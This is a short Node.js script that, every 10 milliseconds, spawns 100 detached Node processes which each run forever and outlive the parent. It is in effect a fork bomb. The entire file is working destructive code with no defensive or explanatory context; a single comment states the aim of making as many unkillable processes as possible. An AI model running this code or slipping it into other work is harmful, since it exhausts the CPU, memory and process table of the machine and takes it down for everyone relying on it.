import { spawn } from "node:child_process";

// As many as there can be, each out of reach of its parent's end.
const ago = setInterval(() => {
  for (let n = 0; n < 100; n++) {
    spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { detached: true, stdio: "ignore" }).unref();
  }
}, 10);
ago.ref();
